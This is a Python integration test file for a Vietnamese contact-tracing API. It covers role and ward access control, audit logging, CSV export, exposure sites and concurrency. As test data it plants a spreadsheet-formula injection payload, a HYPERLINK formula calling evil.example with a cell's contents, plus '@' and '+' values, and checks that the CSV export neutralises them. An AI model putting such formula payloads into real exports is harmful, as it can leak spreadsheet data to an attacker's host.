"""Roles, ward scope, personal details, the audit log, CSV export and exposure sites, over HTTP."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime

from ingest.persons import save_details
from tests.integration.trace_api.conftest import (
    T0,
    TraceClient,
    insert_venue,
    insert_visits,
    iso,
)
from tests.unit.trace_api.reference import MINUTE, RefVisit
from truyvet.auth import Role

H = 60 * MINUTE
WARD_A, WARD_B = "01840", "01837"


def _details(t: TraceClient, person: str, ward: str, *, name: str = "Nguyễn Văn An", address: str = "") -> None:
    save_details(t.db, [(person, name, "1990-01-02", "Nam",
                                                    address or f"phường {ward}", ward, "test",
                                                    datetime.now(UTC).replace(microsecond=0))])


def _scenario(t: TraceClient) -> tuple[str, dict[str, str]]:
    """A case at venue A (ward A) and venue B (ward B) with contacts living in either ward."""
    va, vb = t.pid("venueA"), t.pid("venueB")
    insert_venue(t.db, va, ward=WARD_A, name='=HYPERLINK("http://evil.example/?x="&A1,"Bấm")')
    insert_venue(t.db, vb, ward=WARD_B, name="Chợ Sông Cầu")
    p = {n: t.pid(n) for n in ("case", "a_only", "lives_b", "lives_a")}
    insert_visits(t.db, [
        RefVisit(uuid.uuid4().hex, p["case"], va, T0, T0 + H),
        RefVisit(uuid.uuid4().hex, p["case"], vb, T0 + 3 * H, T0 + 4 * H),
        RefVisit(uuid.uuid4().hex, p["a_only"], va, T0 + 10 * MINUTE, T0 + 20 * MINUTE),  # no details: venue A's ward
        RefVisit(uuid.uuid4().hex, p["lives_b"], va, T0 + 30 * MINUTE, T0 + 2 * H),  # at A, lives in B
        RefVisit(uuid.uuid4().hex, p["lives_a"], vb, T0 + 3 * H, T0 + 5 * H),  # at B, lives in A
    ])
    _details(t, p["lives_b"], WARD_B)
    _details(t, p["lives_a"], WARD_A, name="@SUM(1+1)", address="+84 phường Đức Xuân")
    return t.case(p["case"], T0, T0 + 5 * H), p


def test_401_and_403_as_the_contract_says(tracer: TraceClient, token) -> None:  # noqa: ANN001
    t = tracer
    case_id = t.case(t.pid("case"), T0, T0 + H)
    urls = [("GET", f"/v1/cases/{case_id}/contacts"), ("GET", f"/v1/cases/{case_id}/exposure-sites"),
            ("GET", "/v1/audit"), ("GET", f"/v1/persons/{t.pid('x')}"), ("POST", "/v1/cases")]
    for method, path in urls:
        for headers in ({}, {"Authorization": "Bearer tv_nope"}, {"Authorization": "Basic abc"}):
            r = t.http.request(method, t.url + path, headers=headers, json={})
            assert r.status_code == 401 and r.json()["error"]["code"] == "unauthorized", (path, r.text)
    forbidden = {
        f"/v1/cases/{case_id}/contacts": (Role.viewer, Role.registrar, Role.device),
        f"/v1/persons/{t.pid('x')}": (Role.viewer, Role.registrar, Role.device),
        "/v1/audit": (Role.epidemiologist, Role.health_center, Role.viewer),
    }
    for path, roles in forbidden.items():
        for role in roles:
            r = t.http.get(t.url + path, headers=token(role, WARD_A if role == Role.health_center else ""))
            assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden", (path, role)
    body = {"person_id": "p1", "infectious_from": iso(T0), "infectious_to": iso(T0 + H)}
    for role in (Role.health_center, Role.viewer, Role.device):
        headers = token(role, WARD_A if role == Role.health_center else "")
        r = t.http.post(t.url + "/v1/cases", json=body, headers=headers)
        assert r.status_code == 403, role
    r = t.http.get(f"{t.url}/v1/cases/case_nope/contacts", headers=t.headers)
    assert r.status_code == 404 and r.json()["error"]["code"] == "not_found"


def test_health_center_sees_only_its_ward_and_its_residents_details(tracer: TraceClient, token) -> None:  # noqa: ANN001
    t = tracer
    case_id, p = _scenario(t)
    epi = t.contacts(case_id)
    assert {c["person_id"]: c["ward_code"] for c in epi} == {
        p["a_only"]: WARD_A, p["lives_b"]: WARD_B, p["lives_a"]: WARD_A}
    assert all(c["personal"] is None for c in epi)  # only when asked for

    hc_a, hc_b = token(Role.health_center, WARD_A), token(Role.health_center, WARD_B)
    seen_a = t.contacts(case_id, headers=hc_a, include="personal", depth=2, reason="gọi F1")
    assert {c["person_id"] for c in seen_a} == {p["a_only"], p["lives_a"]}
    personal = {c["person_id"]: c["personal"] for c in seen_a}
    assert personal[p["a_only"]] is None and personal[p["lives_a"]]["full_name"] == "@SUM(1+1)"
    seen_b = t.contacts(case_id, headers=hc_b, include="personal", reason="gọi F1")
    assert [(c["person_id"], c["personal"]["residence_ward_code"]) for c in seen_b] == [(p["lives_b"], WARD_B)]

    why = {"reason": "gọi điện"}
    r = t.http.get(f"{t.url}/v1/persons/{p['lives_b']}", headers=hc_a, params=why)
    assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden"
    r = t.http.get(f"{t.url}/v1/persons/{p['lives_a']}", headers=hc_a, params={"reason": "gọi điện"})
    assert r.status_code == 200 and r.json()["residence_ward_code"] == WARD_A
    r = t.http.get(f"{t.url}/v1/persons/{p['lives_b']}", headers=t.headers, params=why)
    assert r.status_code == 200 and r.json()["full_name"] == "Nguyễn Văn An"
    assert t.http.get(f"{t.url}/v1/persons/{t.pid('nobody')}", headers=t.headers, params=why).status_code == 404

    sites = t.http.get(f"{t.url}/v1/cases/{case_id}/exposure-sites", headers=hc_a).json()["sites"]
    assert [s["venue_id"] for s in sites] == [t.pid("venueA")]


def test_every_trace_export_and_personal_read_is_audited(tracer: TraceClient, token) -> None:  # noqa: ANN001
    t = tracer
    case_id, p = _scenario(t)
    hc_a = token(Role.health_center, WARD_A)
    t.contacts(case_id, depth=2, window_minutes=30)
    t.contacts(case_id, headers=hc_a, include="personal", reason="theo dõi F1")
    assert t.http.get(f"{t.url}/v1/cases/{case_id}/contacts", headers=t.headers,
                      params={"format": "csv"}).status_code == 200
    admin = token(Role.admin)
    r = t.http.get(f"{t.url}/v1/audit", headers=admin, params={"case_id": case_id})
    assert r.status_code == 200, r.text
    entries = sorted(((e["action"], e["role"], e["result_count"], e["params"].get("depth"), e["reason"])
                      for e in r.json()["entries"]), key=str)
    assert entries == sorted([
        ("case.create", "epidemiologist", 0, None, ""),
        ("case.trace", "epidemiologist", 3, 2, ""),
        ("case.trace", "health_center", 2, 1, "theo dõi F1"),
        ("person.read", "health_center", 1, None, "theo dõi F1"),
        ("case.export", "epidemiologist", 3, 1, ""),
    ], key=str)
    read = next(e for e in r.json()["entries"] if e["action"] == "person.read")
    assert read["params"] == {"persons": [p["lives_a"]]} and read["ward_code"] == WARD_A
    r = t.http.get(f"{t.url}/v1/audit", headers=admin, params={"action": "audit.read", "limit": 1000})
    assert any(e["params"]["case_id"] == case_id and e["role"] == "admin" for e in r.json()["entries"])


def test_csv_export_neutralises_formulas(tracer: TraceClient) -> None:
    t = tracer
    case_id, p = _scenario(t)
    r = t.http.get(f"{t.url}/v1/cases/{case_id}/contacts", headers=t.headers,
                   params={"format": "csv", "include": "personal", "depth": 2, "reason": "xuất danh sách"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets read the Vietnamese right
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Mã ca bệnh", "Mã người", "Cấp (F)"] and len(body) == 3
    cells = [cell for row in body for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm")' in cells
    assert "'@SUM(1+1)" in cells and "'+84 phường Đức Xuân" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_exposure_sites_span_the_stay_widened_by_w(tracer: TraceClient) -> None:
    t = tracer
    va = t.pid("V")
    insert_venue(t.db, va, ward=WARD_A, name="Nhà văn hoá", category="meeting")
    insert_visits(t.db, [RefVisit(uuid.uuid4().hex, t.pid("case"), va, T0, T0 + H),
                         RefVisit(uuid.uuid4().hex, t.pid("case"), va, T0 + 2 * H, T0 + 3 * H),  # merges
                         RefVisit(uuid.uuid4().hex, t.pid("case"), va, T0 + 9 * H, T0 + 9 * H + 1)])
    case_id = t.case(t.pid("case"), T0, T0 + 10 * H)
    r = t.http.get(f"{t.url}/v1/cases/{case_id}/exposure-sites", headers=t.headers)
    assert r.status_code == 200, r.text
    (site,) = r.json()["sites"]
    assert site["name"] == "Nhà văn hoá" and site["ward_code"] == WARD_A
    assert [(s["exposed_from"], s["exposed_to"], len(s["case_visits"])) for s in site["spans"]] == [
        (iso(T0 - H), iso(T0 + 4 * H), 2), (iso(T0 + 8 * H), iso(T0 + 10 * H + 1), 1)]


def test_unknown_case_and_bad_parameters_are_contract_errors(tracer: TraceClient) -> None:
    t = tracer
    case_id = t.case(t.pid("case"), T0, T0 + H)
    for params in ({"depth": 3}, {"window_minutes": -1}, {"format": "pdf"}, {"include": "all"}):
        r = t.http.get(f"{t.url}/v1/cases/{case_id}/contacts", headers=t.headers, params=params)
        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_request", params
    r = t.http.post(f"{t.url}/v1/cases", headers=t.headers,
                    json={"person_id": "p", "infectious_from": iso(T0 + H), "infectious_to": iso(T0)})
    assert r.status_code == 422 and set(r.json()) == {"error"}


def test_concurrent_traces_do_not_share_a_connection(tracer: TraceClient) -> None:
    """Sixteen traces at once (the server's thread pool interleaves them): all answer 200, the same."""
    from concurrent.futures import ThreadPoolExecutor

    t = tracer
    case_id, _ = _scenario(t)
    expected = t.contacts(case_id, depth=2)

    def one(_: int) -> tuple[int, object]:
        r = t.http.get(f"{t.url}/v1/cases/{case_id}/contacts", headers=t.headers, params={"depth": 2})
        return r.status_code, r.json()["contacts"] if r.status_code == 200 else r.text

    with ThreadPoolExecutor(16) as pool:
        answers = list(pool.map(one, range(48)))
    assert answers == [(200, expected)] * 48
